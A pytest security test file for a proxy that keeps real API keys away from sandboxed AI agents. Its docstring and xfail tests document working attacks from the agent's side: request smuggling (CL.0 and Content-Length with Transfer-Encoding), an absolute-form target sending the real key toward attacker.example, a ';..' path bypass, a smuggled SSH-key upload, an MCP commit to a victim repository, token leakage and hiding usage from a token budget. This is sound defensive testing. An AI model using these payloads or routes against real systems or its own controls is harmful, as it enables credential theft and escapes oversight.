"""An eighth outside attack (the helper "breakkeys", who built none of it): the
keys on the wire as merged today (each key bound to its own hosts, TLS-only
bindings, placeholders read before a host is judged, per-call bindings for
Copilot's GitHub token, the budget on the wire), attacked from the agent's side.

The harness is `test_outside_attack5.py`'s: the real proxy, judged by the real
gate writing a real audit log, the real budget and model-call recorder, a
loopback HTTPS stand-in in the place of the bound host (its own test CA
trusted upstream), the agent's side speaking TLS to the proxy and trusting
the attempt's CA only. Where the attack needs an upstream that reads HTTP as
a real server may (a target's authority, a path parameter, a body it does not
read), the stand-in says which server behaviour it models.

Each hole is a test marked ``xfail(strict=True)``: it fails today because the
attack works, and the fixer removes the mark. Its allowed neighbour, and the
attacks that held, are ordinary tests.

The holes, by class:

- the request target's authority passed upstream: the proxy sets the Host to
  the host judged and turns an ``http://`` absolute-form target into origin
  form, but an ``https://`` (or ``HTTP://``) one goes upstream as it came,
  naming another host, with the real key; a server reads an absolute-form
  target's authority, not the Host (RFC 9112 3.2.2: it MUST ignore the Host),
  so a front end serving several hosts (a CDN, a company gateway's nginx)
  routes the real key to whichever host the agent named;
- a bound host that carries the key's whole authority: Copilot's GitHub token
  is bound to named calls on ``api.github.com`` but to any call on
  ``api.githubcopilot.com``, where GitHub's remote MCP server (``/mcp/``)
  takes a GitHub token and acts with all of it (files, repositories, gists);
- a credential minted by a bound call handed to the agent: the token exchange
  Copilot's binding allows (``GET /copilot_internal/v2/token``) answers with a
  Copilot token, passed to the agent as it came: a real credential, usable
  from anywhere without the proxy;
- a path parameter read as a dot segment: `canonical_path` refuses ``.``,
  ``..``, ``%`` and backslashes, but not ``;``: ``/copilot_internal/..;/user/repos``
  matches ``GET /copilot_internal/**``, and a server that reads path
  parameters (a servlet container) routes it to ``/user/repos``;
- a request the upstream reads otherwise on a kept connection: the proxy
  keeps one upstream connection for every request of a terminated
  connection, so a body the upstream does not read as one (a GET's body, to a
  server that ignores it: a CL.0 desync) is read there as the head of the
  next request, and the next (allowed) request's fields, the real key among
  them, become that smuggled request's: ``POST /user/keys`` with the token
  (and, under a tokens limit, a Message Batch with the Anthropic key);
- a refusal that leaves no record: a request smuggled inside a bound host's
  TLS (Content-Length with Transfer-Encoding) is answered 400 and never
  recorded, so ``--fail-on refused`` passes; the same try through the proxy
  port is a refusal record;
- a placeholder made of the secret's own characters: a placeholder keeps the
  key up to its last ``-`` or ``_`` in its first 16 characters, so a Gemini
  key hands the agent up to 12 of its secret characters;
- usage read in part counted as read: the usage reader inflates each read to
  at most 4 MiB and drops the rest, so a gzip event stream of a compressible
  completion (one word repeated) is cut after its input tokens were read,
  and its output tokens pass ``[limits] tokens`` unseen (shown on a plain-HTTP
  gateway; inside TLS a 16 KiB record inflates to just under the cut with
  zlib's encoder).

What held (ordinary tests below): a second request on a kept connection
after an allowed one, judged on its own; a CONNECT to a bound host's address
(its placeholder only, never the key); a model call with a query string
(``/v1/messages?beta=true``) counted against the limit; a websocket or HTTP/2
upgrade (its hop fields dropped; an HTTP/2 preface a 400); a placeholder in a
compressed body to an unbound host (only the placeholder).
"""

from __future__ import annotations

import contextlib
import dataclasses
import gzip
import json
import posixpath
import ssl
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path

import h11
import pytest
import trio
from test_outside_attack5 import (
    GITHUB_TOKEN,
    KEY,
    Handler,
    Origin,
    Reply,
    Wire,
    ask,
    copilot_github_token,
    message,
    plain_ask,
    raw_through,
    recorded,
    takes_anything,
    wire,
)

from governor.agents.presets import presets
from governor.confine.model_api import held_credentials
from governor.sandbox.net.credentials import Binding, Credential, Credentials, placeholder_for

TOKEN_HEADER = f"token {GITHUB_TOKEN}".encode()


def keyed(origin: Origin, value: bytes) -> list[h11.Request]:
    """The requests ``origin`` received holding ``value`` in any header."""
    return [r for r in origin.requests if any(value in v for _, v in r.headers.raw_items())]


# -- the request target's authority passed upstream --------------------------------------


async def routes_by_target(request: h11.Request, body: bytes) -> Reply:
    """A front end serving several hosts, reading a request as RFC 9112 3.2.2
    says: an absolute-form target's authority names the host, its Host ignored."""
    target = request.target.decode()
    host = target.split("://", 1)[1].split("/", 1)[0] if "://" in target else None
    served = host or dict(request.headers.raw_items())[b"host"].decode()
    return (
        200,
        [(b"content-type", b"application/json")],
        json.dumps({"served_for": served}).encode(),
    )


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: an https:// (or upper-case HTTP://) absolute-form target naming another host goes to "
        "the bound host as it came, with the real key, and a server reads that target's authority, "
        "not the Host (RFC 9112 3.2.2) (class: the request target's authority passed upstream "
        "unchecked; mechanism: every request sent to a terminated host goes in origin form, an "
        "absolute-form target of any scheme or case taken only when it names the host and port "
        "judged, any other form (authority, asterisk but OPTIONS) refused)"
    ),
)
@pytest.mark.parametrize("scheme", ["https", "HTTP"])
async def test_a_request_target_naming_another_host_never_reaches_the_bound_host_with_the_key(
    tmp_path: Path, scheme: str
) -> None:
    async with wire(tmp_path, routes_by_target) as w:
        got = await raw_through(
            w,
            (
                f"GET {scheme}://attacker.example/collect HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"x-api-key: {w.placeholder}\r\nConnection: close\r\n\r\n"
            ).encode(),
        )
        served = [r.target for r in keyed(w.origin, KEY.encode())]
        assert all(t.startswith(b"/") for t in served), (
            f"the real key reached the bound host in a request for another host: {served} "
            f"(answered {got[-60:]!r})"
        )


async def test_an_absolute_target_naming_the_bound_host_gets_the_key_and_one_naming_another_http_host_is_refused(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: ``http://`` naming the bound host and port goes
    upstream in origin form with the real key; naming another host, refused."""
    async with wire(tmp_path, routes_by_target) as w:
        bound = f"127.0.0.1:{w.origin.port}"
        for target in (f"http://{bound}/v1/models", "http://attacker.example/collect"):
            await raw_through(
                w,
                (
                    f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {w.placeholder}\r\n"
                    "Connection: close\r\n\r\n"
                ).encode(),
            )
        assert [r.target for r in w.origin.requests] == [b"/v1/models"]
        assert keyed(w.origin, KEY.encode()) == w.origin.requests


# -- a bound host that carries the key's whole authority ---------------------------------


def copilot_api_token(origins: list[Origin]) -> Credentials:
    """What the governor holds for the real ``copilot`` preset given ``GH_TOKEN``,
    the stand-in in the place of ``api.githubcopilot.com:443`` (the binding the
    preset gives the token there, its host and port moved to the stand-in's)."""
    (token,) = held_credentials(
        presets()["copilot"], {"GH_TOKEN": GITHUB_TOKEN}, sandboxed=True
    ).held
    (api,) = [b for b in token.bindings if b.host == "api.githubcopilot.com"]
    moved = dataclasses.replace(api, host="127.0.0.1", port=origins[0].port)
    return Credentials([dataclasses.replace(token, bindings=(moved,))])


def create_file_call() -> bytes:
    """GitHub's remote MCP server's ``create_or_update_file``: a commit to any
    repository the token may write, as the token's owner."""
    return json.dumps({
        "jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": "create_or_update_file", "arguments": {
            "owner": "victim-org", "repo": "production", "path": ".github/workflows/x.yml",
            "content": "on: push", "message": "ci", "branch": "main",
        }},
    }).encode()  # fmt: skip


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: Copilot's GitHub token is bound to named calls on api.github.com but to every call on "
        "api.githubcopilot.com, where GitHub's remote MCP server (/mcp/) takes a GitHub token and acts "
        "with all of it (class: a bound host that carries the key's whole authority; mechanism: a key "
        "whose authority is wider than its model API is bound to named calls on every host it goes to, "
        "the Copilot API's model calls only, never a host's every call)"
    ),
)
async def test_the_github_token_bound_for_copilot_is_not_put_into_a_call_to_githubs_mcp_server(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, takes_anything, held=copilot_api_token) as w:
        headers = [
            ("authorization", f"Bearer {w.placeholder}"),
            ("content-type", "application/json"),
        ]
        await ask(w, "POST", "/mcp/", headers, create_file_call())
        assert not keyed(w.origin, GITHUB_TOKEN.encode()), (
            "the real token went into an MCP tool call"
        )


async def test_the_github_token_bound_for_copilot_reaches_its_model_calls_on_the_copilot_api(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: Copilot's own model call gets the real token."""
    async with wire(tmp_path, takes_anything, held=copilot_api_token) as w:
        headers = [
            ("authorization", f"Bearer {w.placeholder}"),
            ("content-type", "application/json"),
        ]
        status, _, _ = await ask(w, "POST", "/chat/completions", headers, b"{}")
        assert status == 200
        assert (
            dict(w.origin.requests[0].headers.raw_items())[b"authorization"]
            == f"Bearer {GITHUB_TOKEN}".encode()
        )


# -- a credential minted by a bound call handed to the agent -----------------------------

MINTED = "tid=0f3c9a;exp=1924992000;sku=copilot_for_business;proxy-ep=proxy.business.githubcopilot.com:8a1f6e0c"


async def token_exchange(request: h11.Request, body: bytes) -> Reply:
    """``api.github.com`` as Copilot's clients meet it: the token exchange
    answers a valid GitHub token with a Copilot token (what any client then
    sends to ``api.githubcopilot.com`` as ``Authorization: Bearer``), and
    ``/user`` with who the user is."""
    json_type = [(b"content-type", b"application/json")]
    if dict(request.headers.raw_items()).get(b"authorization") != TOKEN_HEADER:
        return 401, json_type, b'{"message": "Bad credentials"}'
    if request.target == b"/copilot_internal/v2/token":
        answer = {
            "token": MINTED,
            "expires_at": 1924992000,
            "refresh_in": 1500,
            "chat_enabled": True,
        }
        return 200, json_type, json.dumps(answer).encode()
    return 200, json_type, b'{"login": "operator", "id": 1}'


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: the token exchange Copilot's binding allows (GET /copilot_internal/v2/token) answers with "
        "a Copilot token, passed to the agent as it came: a real credential, usable anywhere without the "
        "proxy (class: a credential minted by a bound call handed to the agent; mechanism: the calls "
        "that mint a credential are named with it, and their answer's credential is held by the "
        "governor like the key that minted it, the agent given a placeholder swapped on its own hosts)"
    ),
)
async def test_the_copilot_token_minted_with_the_operators_github_token_never_reaches_the_agent(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, token_exchange, held=copilot_github_token) as w:
        _, head, body = await ask(
            w, "GET", "/copilot_internal/v2/token", [("authorization", f"token {w.placeholder}")]
        )
        assert keyed(w.origin, TOKEN_HEADER), "the exchange did not get the real token"
        assert MINTED.encode() not in head + body, (
            "the agent holds a Copilot token minted with the operator's key"
        )


async def test_who_the_user_is_reaches_the_agent_whole_from_a_call_bound_to_the_github_token(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: a bound call's answer that holds no credential
    reaches the agent as the host sent it."""
    async with wire(tmp_path, token_exchange, held=copilot_github_token) as w:
        status, _, body = await ask(
            w, "GET", "/user", [("authorization", f"token {w.placeholder}")]
        )
        assert (status, json.loads(body)) == (200, {"login": "operator", "id": 1})


# -- a path parameter read as a dot segment ----------------------------------------------


def servlet_path(target: bytes) -> str:
    """The path a servlet container routes (Tomcat, Jetty, Spring's default):
    each segment's ``;`` parameters dropped, then dot segments resolved."""
    path = target.decode().split("?", 1)[0]
    segments = [s.split(";", 1)[0] for s in path.split("/")]
    return posixpath.normpath("/".join(segments))


@dataclass
class Servlet:
    """``api.github.com`` behind a servlet container: records the paths it routed."""

    routed: list[tuple[str, bytes | None]] = field(default_factory=list)

    async def __call__(self, request: h11.Request, body: bytes) -> Reply:
        self.routed.append(
            (servlet_path(request.target), dict(request.headers.raw_items()).get(b"authorization"))
        )
        return 200, [(b"content-type", b"application/json")], b"[]"


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: canonical_path refuses '.', '..', '%' and backslashes but not ';': "
        "/copilot_internal/..;/user/repos matches GET /copilot_internal/**, and a server that reads "
        "path parameters routes it to /user/repos with the token (class: a path the canonicaliser "
        "passes that a server reads as another; mechanism: a path matches a call only when every "
        "character is one no server reads specially (unreserved characters and '/', a list allowed, "
        "never a list refused), ';' and '#' included)"
    ),
)
async def test_a_path_parameter_read_as_a_dot_segment_does_not_take_the_github_token_out_of_copilots_calls(
    tmp_path: Path,
) -> None:
    servlet = Servlet()
    async with wire(tmp_path, servlet, held=copilot_github_token) as w:
        await ask(
            w,
            "GET",
            "/copilot_internal/..;/user/repos?visibility=private",
            [("authorization", f"token {w.placeholder}")],
        )
        outside = [
            p
            for p, auth in servlet.routed
            if auth == TOKEN_HEADER and not p.startswith("/copilot_internal/")
        ]
        assert not outside, f"the real token was routed to {outside}"


async def test_a_copilot_call_with_a_plain_path_reaches_the_servlet_with_the_github_token(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: the same server, a call Copilot makes."""
    servlet = Servlet()
    async with wire(tmp_path, servlet, held=copilot_github_token) as w:
        status, _, _ = await ask(
            w, "GET", "/copilot_internal/user", [("authorization", f"token {w.placeholder}")]
        )
        assert status == 200 and servlet.routed == [("/copilot_internal/user", TOKEN_HEADER)]


# -- a request the upstream reads otherwise on a kept connection --------------------------


@dataclass
class ClZero:
    """``api.github.com`` as a server that does not read a GET's body (a CL.0
    desync: what it does not read as a body it reads as the next request's
    head). Records each request it routed: method, path, the key it came with
    (``authorization``, else ``x-api-key``)."""

    port: int = 0
    context: ssl.SSLContext | None = None
    routed: list[tuple[bytes, bytes, bytes | None]] = field(default_factory=list)

    async def serve(self, task_status: trio.TaskStatus[None]) -> None:
        listener = (await trio.open_tcp_listeners(0, host="127.0.0.1"))[0]
        self.port = listener.socket.getsockname()[1]
        task_status.started()
        async with listener, trio.open_nursery() as nursery:
            while True:
                nursery.start_soon(self.one, await listener.accept())

    async def one(self, plain: trio.SocketStream) -> None:
        assert self.context is not None
        stream = trio.SSLStream(plain, self.context, server_side=True)
        buffer = b""
        with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError):
            while True:
                while b"\r\n\r\n" not in buffer:
                    data = await stream.receive_some(65536)
                    if not data:
                        return
                    buffer += data
                head, buffer = buffer.split(b"\r\n\r\n", 1)
                lines = head.split(b"\r\n")
                method, target, _ = lines[0].split(b" ", 2)
                fields = {}
                for line in lines[1:]:
                    name, _, value = line.partition(b":")
                    fields[name.strip().lower()] = value.strip()
                length = int(fields.get(b"content-length", b"0"))
                if method != b"GET":  # a GET's body is not read: left for the next head
                    while len(buffer) < length:
                        buffer += await stream.receive_some(65536)
                    buffer = buffer[length:]
                key = fields.get(b"authorization", fields.get(b"x-api-key"))
                self.routed.append((method, target, key))
                answer = b'{"ok": true}'
                await stream.send_all(
                    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s"
                    % (len(answer), answer)
                )


def github_token_at(server: ClZero) -> Callable[[list[Origin]], Credentials]:
    def held(origins: list[Origin]) -> Credentials:
        (token,) = held_credentials(
            presets()["copilot"], {"GH_TOKEN": GITHUB_TOKEN}, sandboxed=True
        ).held
        (github,) = [b for b in token.bindings if b.host == "api.github.com"]
        moved = dataclasses.replace(github, host="127.0.0.1", port=server.port)
        return Credentials([dataclasses.replace(token, bindings=(moved,))])

    return held


def anthropic_key_at(server: ClZero) -> Callable[[list[Origin]], Credentials]:
    def held(origins: list[Origin]) -> Credentials:
        bound = (Binding("127.0.0.1", server.port, tls=True),)
        return Credentials([Credential("ANTHROPIC_API_KEY", KEY, placeholder_for(KEY), bound)])

    return held


async def tunnel_to(w: Wire, port: int, data: bytes) -> bytes:
    """Raw bytes inside a CONNECT tunnel's TLS to ``127.0.0.1:port``; what
    comes back until the proxy closes or a few seconds pass."""
    stream = await trio.open_tcp_stream("127.0.0.1", w.port)
    target = f"127.0.0.1:{port}"
    await stream.send_all(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += await stream.receive_some(4096)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    context = ssl.create_default_context(cadata=w.ca.cert_pem.decode())
    tls = trio.SSLStream(stream, context, server_hostname="127.0.0.1")
    await tls.send_all(data)
    got = b""
    with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError):
        with trio.move_on_after(3):
            while chunk := await tls.receive_some(65536):
                got += chunk
    return got


@contextlib.asynccontextmanager
async def cl_zero_wire(
    tmp_path: Path, key: str = "github", tokens: int | None = None
) -> AsyncIterator[tuple[Wire, ClZero]]:
    """The real proxy in front of a `ClZero` server bound to Copilot's GitHub
    token (as the preset binds it on ``api.github.com``) or to an Anthropic key."""
    server = ClZero()
    async with trio.open_nursery() as nursery:
        await nursery.start(server.serve)
        async with wire(
            tmp_path,
            takes_anything,
            held=github_token_at(server) if key == "github" else anthropic_key_at(server),
            tokens=tokens,
            allow=(f"127.0.0.1:{server.port}",),
        ) as w:
            server.context = w.test_ca.server_context("127.0.0.1")
            yield w, server
        nursery.cancel_scope.cancel()


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: every request of a terminated connection goes on one kept upstream connection, so a "
        "GET body the upstream does not read (CL.0) is read there as the next head, and the next "
        "allowed request's fields, the real token among them, become a smuggled POST /user/keys's "
        "(the same carries a Message Batch past a tokens limit) (class: a request the upstream reads "
        "otherwise on a kept connection; mechanism: a request carrying a real key never shares an "
        "upstream connection with bytes the proxy sent before it (a fresh upstream connection per "
        "keyed request, or none reused after a body), so nothing sent earlier can prefix its head)"
    ),
)
async def test_a_get_body_the_upstream_does_not_read_never_prefixes_the_next_requests_head_with_the_token(
    tmp_path: Path,
) -> None:
    async with cl_zero_wire(tmp_path) as (w, server):
        auth = f"authorization: token {w.placeholder}\r\n"
        smuggled = b"POST /user/keys HTTP/1.1\r\nX-Ignore: "
        first = (
            f"GET /copilot_internal/v2/token HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}"
            f"Content-Length: {len(smuggled)}\r\n\r\n"
        ).encode() + smuggled
        second = f"GET /copilot_internal/user HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}Connection: close\r\n\r\n".encode()
        await tunnel_to(w, server.port, first + second)
        keyed_calls = [(m, t) for m, t, a in server.routed if a == TOKEN_HEADER]
        assert (b"POST", b"/user/keys") not in keyed_calls, (
            f"the real token added an SSH key: {server.routed}"
        )


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: the same CL.0 desync under a tokens limit: a GET /v1/models (free) with a body the "
        "upstream does not read prefixes the next POST /v1/messages, so the API reads a Message "
        "Batch, the call the limit refuses, with the real key (class and mechanism: as the GitHub "
        "token's, a request carrying a real key never shares an upstream connection with bytes the "
        "proxy sent before it)"
    ),
)
async def test_a_get_body_the_upstream_does_not_read_never_carries_a_batch_past_a_tokens_limit(
    tmp_path: Path,
) -> None:
    async with cl_zero_wire(tmp_path, key="anthropic", tokens=500) as (w, server):
        key = f"x-api-key: {w.placeholder}\r\n"
        smuggled = b"POST /v1/messages/batches HTTP/1.1\r\nX-Ignore: "
        first = (
            f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n{key}"
            f"Content-Length: {len(smuggled)}\r\n\r\n"
        ).encode() + smuggled
        batch = json.dumps({"requests": [{"custom_id": str(i)} for i in range(100)]}).encode()
        second = (
            f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\n{key}"
            f"Content-Length: {len(batch)}\r\nConnection: close\r\n\r\n"
        ).encode() + batch
        await tunnel_to(w, server.port, first + second)
        keyed_calls = [(m, t) for m, t, a in server.routed if a == KEY.encode()]
        assert (b"POST", b"/v1/messages/batches") not in keyed_calls, (
            f"the API read a batch with the real key under a tokens limit: {server.routed}"
        )


async def test_a_batch_sent_as_itself_under_a_tokens_limit_never_reaches_a_cl_zero_server(
    tmp_path: Path,
) -> None:
    """The allowed neighbour's other side: the same batch sent as itself is
    refused under the limit, and a free GET without a body is carried."""
    async with cl_zero_wire(tmp_path, key="anthropic", tokens=500) as (w, server):
        key = f"x-api-key: {w.placeholder}\r\n"
        got = await tunnel_to(
            w,
            server.port,
            (
                f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n{key}\r\n"
                f"POST /v1/messages/batches HTTP/1.1\r\nHost: 127.0.0.1\r\n{key}"
                "Content-Length: 2\r\n\r\n{}"
            ).encode(),
        )
        assert got.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in got, got
        assert server.routed == [(b"GET", b"/v1/models", KEY.encode())]


async def test_two_copilot_calls_on_a_kept_connection_each_reach_a_cl_zero_server_with_the_token(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: the same server, two calls Copilot makes on one
    connection, no body: both routed as sent, each with the real token."""
    async with cl_zero_wire(tmp_path) as (w, server):
        auth = f"authorization: token {w.placeholder}\r\n"
        one = f"GET /copilot_internal/v2/token HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}\r\n"
        two = f"GET /user HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}Connection: close\r\n\r\n"
        got = await tunnel_to(w, server.port, (one + two).encode())
        assert got.count(b"HTTP/1.1 200") == 2, got
        assert server.routed == [
            (b"GET", b"/copilot_internal/v2/token", TOKEN_HEADER),
            (b"GET", b"/user", TOKEN_HEADER),
        ]


# -- usage read in part counted as read --------------------------------------------------


def repeated_stream(tokens_in: int, tokens_out: int, deltas: int) -> bytes:
    """An Anthropic event stream whose completion repeats one word (what a
    prompt asking for it gets): ``deltas`` identical delta events between
    ``message_start`` (the input tokens) and ``message_delta`` (the output)."""
    start = {"type": "message_start", "message": {"model": "claude-standin-1", "usage": {"input_tokens": tokens_in, "output_tokens": 1}}}  # fmt: skip
    delta = {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "aaaaaaaa"}}  # fmt: skip
    end = {"type": "message_delta", "delta": {"stop_reason": "max_tokens"}, "usage": {"output_tokens": tokens_out}}  # fmt: skip
    events = [start, *[delta] * deltas, end]
    return b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)


def gzips_its_stream(tokens_in: int, tokens_out: int, deltas: int) -> Handler:
    """An API (or the CDN in front of it) that compresses its event stream for
    a client accepting gzip, as every request the proxy sends does."""

    async def handler(request: h11.Request, body: bytes) -> Reply:
        stream = gzip.compress(repeated_stream(tokens_in, tokens_out, deltas))
        headers = [(b"content-type", b"text/event-stream"), (b"content-encoding", b"gzip")]
        return 200, headers, stream

    return handler


def gateway_call(w: Wire) -> bytes:
    """A model call to a plain-HTTP gateway (an ``http://`` base URL) through the proxy port."""
    at = f"127.0.0.1:{w.origin.port}"
    return (
        f"POST http://{at}/v1/messages HTTP/1.1\r\nHost: {at}\r\nx-api-key: {w.placeholder}\r\n"
        "Content-Length: 2\r\nConnection: close\r\n\r\n{}"
    ).encode()


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: UsageReader inflates each read with decompress(data, JSON_BYTES) and drops the "
        "unconsumed tail, so a read of a compressible completion (one word repeated) that inflates "
        "past 4 MiB is cut; its input tokens were read, so the call counts as read and its output "
        "tokens pass the limit unseen (shown on a plain-HTTP gateway, read up to 64 KiB at a time; "
        "inside TLS a read is one 16 KiB record, under the cut at zlib's ~255:1, over it for an "
        "encoder reaching deflate's ~1032:1) (class: usage read in part counted as read; mechanism: "
        "a call's usage is read only when the reader followed its body to the end without dropping "
        "a byte (every inflated byte parsed, no event skipped) and read its final usage event; any "
        "cut makes the call unread, failing the limit closed)"
    ),
)
async def test_a_compressible_completion_cannot_hide_its_output_tokens_from_the_tokens_limit(
    tmp_path: Path,
) -> None:
    async with wire(
        tmp_path, gzips_its_stream(600, 40_000, 60_000), tokens=10_000, plain=True
    ) as w:
        first = await plain_ask(w, gateway_call(w))
        assert first.startswith(b"HTTP/1.1 200"), first[:200]
        await recorded(w, 1)
        after = await plain_ask(w, gateway_call(w))
        assert after.startswith(b"HTTP/1.1 403"), (
            f"a call of 40,600 tokens counted as {w.calls[0].usage.tokens}: the next one carried"
        )


async def test_a_short_compressed_completion_counts_its_output_tokens_against_the_limit(
    tmp_path: Path,
) -> None:
    """The neighbour: the same gzip stream, short, is read to its end and its
    40,000 output tokens stop the next call."""
    async with wire(tmp_path, gzips_its_stream(600, 40_000, 100), tokens=10_000, plain=True) as w:
        first = await plain_ask(w, gateway_call(w))
        await recorded(w, 1)
        assert w.calls[0].usage.tokens == {"input": 600, "output": 40_000}
        after = await plain_ask(w, gateway_call(w))
        assert first.startswith(b"HTTP/1.1 200") and after.startswith(b"HTTP/1.1 403")


# -- a refusal that leaves no record ------------------------------------------------------


def denied(tmp_path: Path) -> list[dict[str, object]]:
    """The attempt's network records the gate denied."""
    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    return [
        r
        for r in map(json.loads, lines)
        if r.get("kind") == "network" and r.get("verdict") == "deny"
    ]


SMUGGLED = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: a request smuggled inside a terminated host's TLS (Content-Length and Transfer-Encoding) "
        "is answered 400 and never recorded: the log shows the CONNECT allowed and nothing refused, "
        "so --fail-on refused passes, while the same try on the proxy port is a refusal record (class: "
        "a refusal that leaves no record; mechanism: every answer the terminated exchange refuses "
        "with goes through the judge, the proxy's one refusal path, a malformed head included)"
    ),
)
async def test_a_request_smuggled_inside_a_bound_hosts_tls_is_recorded_as_refused(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, takes_anything) as w:
        head = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {w.placeholder}\r\n"
        got = await raw_through(w, (head + SMUGGLED).encode())
        assert got.startswith(b"HTTP/1.1 400"), got[:200]
        assert w.origin.requests == []
    assert denied(tmp_path), "the smuggling try left no refusal in the log"


async def test_a_request_smuggled_through_the_proxy_port_is_recorded_as_refused(
    tmp_path: Path,
) -> None:
    """The neighbour the hole is measured against: the same try in absolute
    form through the proxy port is answered 400 and recorded, denied."""
    async with wire(tmp_path, takes_anything, plain=True) as w:
        at = f"127.0.0.1:{w.origin.port}"
        head = (
            f"POST http://{at}/v1/messages HTTP/1.1\r\nHost: {at}\r\nx-api-key: {w.placeholder}\r\n"
        )
        stream = await trio.open_tcp_stream("127.0.0.1", w.port)
        await stream.send_all((head + SMUGGLED).encode())
        got = b""
        with contextlib.suppress(trio.BrokenResourceError, OSError):
            with trio.move_on_after(3):
                while data := await stream.receive_some(65536):
                    got += data
        await stream.aclose()
        assert got.startswith(b"HTTP/1.1 400"), got[:200]
        assert w.origin.requests == []
    assert denied(tmp_path)


# -- a placeholder that keeps the key's own characters -------------------------------------

GEMINI_KEY = "AIzaSyA1b2C3d4E_" + "x9Lm" * 6
"""A Gemini API key: ``AIza`` and 35 random characters, ``-`` and ``_`` among them."""


@pytest.mark.xfail(
    strict=True,
    reason=(
        "hole: a placeholder keeps the key up to its last '-' or '_' in its first 16 characters, so "
        "a Gemini key (AIza and 35 random characters, '-' and '_' among them) hands the agent up to 12 "
        "of its secret characters (an OpenAI key up to 7) (class: a placeholder made of the secret's "
        "own characters; mechanism: a placeholder keeps only a prefix that is public by the key's "
        "format (sk-ant-api03-, sk-proj-, ghp_, github_pat_, AIza: a list of formats), never one "
        "cut from the value by where its separators happen to fall)"
    ),
)
def test_a_placeholder_keeps_nothing_of_a_gemini_key_but_its_public_prefix() -> None:
    held = held_credentials(presets()["gemini"], {"GEMINI_API_KEY": GEMINI_KEY}, sandboxed=True)
    (placeholder,) = [c.placeholder for c in held.held]
    assert placeholder.startswith("AIza")
    assert placeholder[4:16] != GEMINI_KEY[4:16], (
        f"the sandbox holds {placeholder[:16]!r} of the key"
    )


def test_a_placeholder_keeps_an_anthropic_keys_public_prefix_and_none_of_its_secret() -> None:
    """The neighbour: the prefix a client checks (``sk-ant-api03-``) is kept,
    the secret that follows it is not."""
    held = held_credentials(presets()["claude"], {"ANTHROPIC_API_KEY": KEY}, sandboxed=True)
    (placeholder,) = [c.placeholder for c in held.held]
    assert placeholder.startswith("sk-ant-api03-") and KEY[13:25] not in placeholder


# -- attacks that held --------------------------------------------------------------------


async def test_a_call_outside_copilots_after_an_allowed_one_on_a_kept_connection_is_refused(
    tmp_path: Path,
) -> None:
    """A second request on a kept-alive connection after an allowed one is
    judged on its own: the token exchange gets the token, ``POST /user/keys``
    after it is refused, and nothing of it reaches the host."""
    async with wire(tmp_path, takes_anything, held=copilot_github_token) as w:
        auth = f"authorization: token {w.placeholder}\r\n"
        body = b'{"key": "ssh-ed25519 AAAAattacker"}'
        allowed = f"GET /copilot_internal/v2/token HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}\r\n"
        after = f"POST /user/keys HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}Content-Length: {len(body)}\r\n\r\n"
        got = await raw_through(w, allowed.encode() + after.encode() + body)
        assert got.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in got, got
        assert [r.target for r in w.origin.requests] == [b"/copilot_internal/v2/token"]


def key_bound_by_name(origins: list[Origin]) -> Credentials:
    """``ANTHROPIC_API_KEY`` bound to the stand-in by its name, ``localhost``
    (as a preset binds ``api.anthropic.com``), not by its address."""
    bound = (Binding("localhost", origins[0].port, tls=True),)
    return Credentials([Credential("ANTHROPIC_API_KEY", KEY, placeholder_for(KEY), bound)])


async def test_a_connect_to_the_address_of_a_bound_host_carries_the_placeholder_never_the_key(
    tmp_path: Path,
) -> None:
    """A CONNECT to the bound host's address (``127.0.0.1`` for ``localhost``,
    as an IP of ``api.anthropic.com`` for it) is not terminated (a binding is
    its host as named): the tunnel carries the placeholder, worth nothing there,
    never the real key."""
    async with wire(tmp_path, takes_anything, held=key_bound_by_name) as w:
        stream = await trio.open_tcp_stream("127.0.0.1", w.port)
        target = f"127.0.0.1:{w.origin.port}"
        await stream.send_all(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = b""
        while b"\r\n\r\n" not in answer:
            answer += await stream.receive_some(4096)
        assert answer.startswith(b"HTTP/1.1 200"), answer  # allowed: a tunnel to the stand-in
        context = ssl.create_default_context(cadata=w.test_ca.cert_pem.decode())
